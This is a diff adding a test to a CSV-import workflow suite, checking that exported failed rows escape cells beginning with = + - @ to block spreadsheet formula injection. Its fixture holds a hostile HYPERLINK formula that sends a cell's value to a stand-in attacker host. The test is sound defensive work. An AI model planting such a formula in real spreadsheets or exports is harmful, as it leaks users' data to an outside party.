@@ -242,6 +242,25 @@ describe('Read Rows From a CSV File', () => {
 		expect(f.emulator.stock()).toHaveLength(1997);
 	});
 
+	it("failedRows.csv never holds a spreadsheet formula: a cell starting with = + - @ (a hostile status_code, a SKU) gets a ' before it", async () => {
+		const code = '=HYPERLINK("https://evil.example/?"&B2,"Fix")';
+		const items = [
+			{ warehouse_code: DXB, partner_sku: '@SKU-1', status: { status_code: code, message: '-no' } },
+		];
+		f.emulator.injectFaults({ count: 1, operation: 'UpdateStock', answer: { set: { items } } });
+		const text = `warehouse_code,partner_sku,qty\n${DXB},@SKU-1,5\n`;
+		const result = await f.env.runWorkflow(
+			workflowWithFiles([{ text }], STOCK_CSV, { continueOnFail: true }),
+		);
+		const [out] = result.outputs(NODE) as INodeExecutionData[];
+		const [, row] = textOf(out.binary!.failedRows).split('\n');
+		const cells = row.match(/("([^"]|"")*"|[^,]*)/g)!.filter((cell) => cell !== '');
+		// Each cell as a sheet reads it: none starts with = + - @ (OWASP CSV injection).
+		for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
+		expect(row).toContain(`'@SKU-1`);
+		expect(row).toContain(`"'${code.replace(/"/g, '""')}"`);
+	});
+
 	it('a request that fails as a whole makes each of its rows failed; without Continue On Fail the node fails once the file is sent', async () => {
 		// The first request fails whole with 400 (not repeated): its 100 rows failed, the rest sent.
 		f.emulator.injectFaults({
